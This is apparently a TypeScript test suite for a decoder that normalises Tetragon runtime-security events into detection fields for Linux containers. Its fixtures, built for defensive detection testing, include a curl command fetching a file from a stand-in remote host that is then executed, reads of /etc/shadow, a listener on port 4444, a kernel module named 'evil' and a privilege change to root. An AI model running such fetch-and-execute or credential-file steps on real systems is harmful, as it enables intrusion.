// Tetragon events: the process tree, the image's digest, and what a probe's arguments mean by the function it hooks.
import { describe, expect, it } from "vitest";
import { tetragonExec } from "../decoder-seeds.sample.ts";
import { contextOf } from "../decoder.suite.ts";
import type { RuntimeEvent } from "../event.ts";
import { tetragon } from "./tetragon.ts";

const only = (record: unknown): RuntimeEvent => { const { events, rejects } = tetragon.open(contextOf()).push(record, "line 1"); expect(rejects).toEqual([]); return events[0]!; };
const { process, parent } = tetragonExec.process_exec;
const probe = (name: string, args: readonly object[], kind = "process_kprobe"): RuntimeEvent => only({ [kind]: { process, parent, ...(kind === "process_tracepoint" ? { event: name } : { function_name: name }), args }, time: "2026-11-22T11:59:59Z" });
const sock = { sock_arg: { protocol: "IPPROTO_TCP", saddr: "10.0.0.5", daddr: "198.51.100.7", sport: 40000, dport: 443 } };

describe("runtime/decoders/tetragon", () => {
  it("says in the common names in which container and on which host it was", () => {
    const { fields } = only({ process_exec: { process: { pid: 2, binary: "/bin/sh", docker: "85f791fd8dfa740a3b1c177e" }, parent: {} }, node_name: "node-7", time: "2026-11-22T11:59:59Z" });
    expect(fields).toMatchObject({ "container.id": "85f791fd8dfa740a3b1c177e", "host.name": "node-7" });
  });

  it("an execution has its tree, its pod and the digest of its image", () => {
    const event = only(tetragonExec);
    expect(event.logsource).toEqual({ category: "process_creation", product: "linux", service: "tetragon" });
    expect(event.fields).toMatchObject({ Image: "/usr/bin/curl", CommandLine: "/usr/bin/curl -s http://198.51.100.7/x", ParentImage: "/usr/bin/node", ParentCommandLine: "/usr/bin/node server.js", User: "root", ProcessId: "12", ParentProcessId: "1", ProcessGuid: "bm9kZTox", ParentProcessGuid: "bm9kZTow", CurrentDirectory: "/app" });
    expect(event.origin).toEqual({ host: "node-1", namespace: "prod", pod: "shop-7d9f8b6c5-x2x4z", workload: "shop", workloadKind: "Deployment", containerId: "a1b2c3", containerName: "shop", image: "registry.example/shop:2.4.1", imageDigest: `sha256:${"0a".repeat(32)}` });
  });

  it.each([
    ["security_file_permission", [{ file_arg: { path: "/etc/shadow" } }, { int_arg: 4 }], "file_event", { TargetFilename: "/etc/shadow" }],
    ["__x64_sys_write", [{ file_arg: { path: "etc/passwd" } }], "file_event", { TargetFilename: "/etc/passwd", function: "write" }],
    ["fd_install", [{ int_arg: 3 }, { file_arg: { path: "/tmp/x" } }], "file_event", { TargetFilename: "/tmp/x" }],
    ["security_path_rename", [{ path_arg: { path: "/tmp/a" } }, { path_arg: { path: "/tmp/b" } }], "file_event", { TargetFilename: "/tmp/b", SourceFilename: "/tmp/a" }],
    ["tcp_connect", [sock], "network_connection", { DestinationIp: "198.51.100.7", DestinationPort: "443", SourceIp: "10.0.0.5", Protocol: "tcp", Initiated: "true" }],
    ["security_socket_connect", [{ sockaddr_arg: { addr: "198.51.100.7", port: 53 } }], "network_connection", { DestinationIp: "198.51.100.7", DestinationPort: "53" }],
    ["inet_csk_accept", [sock], "network_connection", { Initiated: "false" }],
    ["inet_csk_listen_start", [{ sock_arg: { saddr: "0.0.0.0", sport: 4444 } }], "network_listen", { SourceIp: "0.0.0.0", SourcePort: "4444" }],
    ["security_bprm_check", [{ linux_binprm_arg: { path: "/tmp/x" } }], "process_creation", { Image: "/tmp/x", CommandLine: "/tmp/x", ParentImage: "/usr/bin/curl" }],
    ["do_init_module", [{ module_arg: { name: "evil" } }], "driver_load", { ImageLoaded: "evil" }],
    ["commit_creds", [{ process_credentials_arg: { uid: 0 } }], "kprobe", { Image: "/usr/bin/curl", function: "commit_creds" }],
  ])("%s", (name, args, category, expected) => {
    const event = probe(name, args);
    expect(event.logsource.category).toBe(category);
    expect(event.fields).toMatchObject(expected);
  });

  it("hooks of Linux security modules and tracepoints are read as probes are", () => {
    expect(probe("file_open", [{ file_arg: { path: "/etc/shadow" } }], "process_lsm")).toMatchObject({ logsource: { category: "file_event" }, fields: { TargetFilename: "/etc/shadow" } });
    expect(probe("sys_enter_openat", [{ string_arg: "/etc/shadow" }], "process_tracepoint")).toMatchObject({ logsource: { category: "file_event" }, fields: { TargetFilename: "/etc/shadow" } });
    expect(probe("readline", [{ string_arg: "id" }], "process_uprobe").logsource.category).toBe("uprobe");
  });

  it.each([
    ["process_exit", {}, { category: "process_termination", product: "linux", service: "tetragon" }, {}],
    ["process_loader", { path: "/usr/lib/x.so" }, { category: "image_load", product: "linux", service: "tetragon" }, { ImageLoaded: "/usr/lib/x.so" }],
    ["process_connect", { destination_ip: "198.51.100.7", destination_port: 443, protocol: "TCP" }, { category: "network_connection", product: "linux", service: "tetragon" }, { DestinationIp: "198.51.100.7", Protocol: "tcp", Initiated: "true" }],
    ["process_listen", { ip: "0.0.0.0", port: 80 }, { category: "network_listen", product: "linux", service: "tetragon" }, { SourcePort: "80" }],
    ["process_throttle", { type: "THROTTLE_START" }, { product: "tetragon", service: "internal" }, {}],
  ])("%s", (kind, more, logsource, expected) => {
    const event = only({ [kind]: { process, parent, ...more }, time: "2026-11-22T11:59:59Z" });
    expect(event.logsource).toEqual(logsource);
    expect(event.fields).toMatchObject(expected);
  });
});
